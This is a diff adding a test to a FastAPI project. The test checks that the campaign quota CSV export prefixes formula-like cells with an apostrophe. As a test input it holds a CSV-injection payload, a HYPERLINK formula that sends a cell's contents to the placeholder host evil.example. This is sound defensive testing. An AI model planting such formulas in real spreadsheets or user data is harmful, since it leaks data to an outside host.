@@ -13,7 +13,7 @@ from fastapi import FastAPI
 
 from lakeside.domain.campaigns import quota_shortfalls
 from tests.campaign_support import company, create_campaign, forget_activity, friends, outsiders, settle, spec
-from tests.conftest import Person
+from tests.conftest import Person, register
 
 
 def test_shortfalls_largest_first() -> None:
@@ -76,3 +76,27 @@ async def test_quota_report_json_csv_preview_and_final(app: FastAPI, people: dic
     report = (await owner.get(f"/api/v1/campaigns/{campaign_id}/quota")).json()
     assert {line["username"] for line in report["below"]} == {"admin", "zhangsan"}
     assert report["compliant"] == 1 and report["participants"] == 3
+
+
+async def test_the_csv_export_defuses_formulas(app: FastAPI, people: dict[str, Person]) -> None:
+    """Names and departments are anyone's text: a cell that a spreadsheet would run as a formula
+    is exported with an apostrophe in front (the rule of the audit export, lakeside.domain.spreadsheet)."""
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
+    owner, zhang = people["admin"], await register(people["admin"].http, "formula", formula)
+    org_id = await company(owner, [zhang])
+    response = await owner.post(f"/api/v1/orgs/{org_id}/departments", json={"name": "+1-1 市场部"})
+    assert response.status_code == 201, response.text
+    response = await owner.put(
+        f"/api/v1/orgs/{org_id}/members/{zhang.id}/departments",
+        json={"department_ids": [response.json()["id"]]},
+    )
+    assert response.status_code == 200, response.text
+    later = (dt.datetime.now(dt.UTC) + dt.timedelta(days=1)).isoformat(timespec="milliseconds")
+    campaign_id = await create_campaign(owner, org_id, spec(quota={"min_outside_users": 1, "by": later}))
+    await settle(app)
+    response = await owner.get(f"/api/v1/campaigns/{campaign_id}/quota", params={"format": "csv"})
+    assert response.status_code == 200, response.text
+    rows = list(csv.reader(io.StringIO(response.text.lstrip("\ufeff"))))
+    line = next(r for r in rows[1:] if r[1] == "formula")
+    assert line[2] == "'" + formula and line[3] == "'+1-1 市场部"
+    assert all(not cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r)
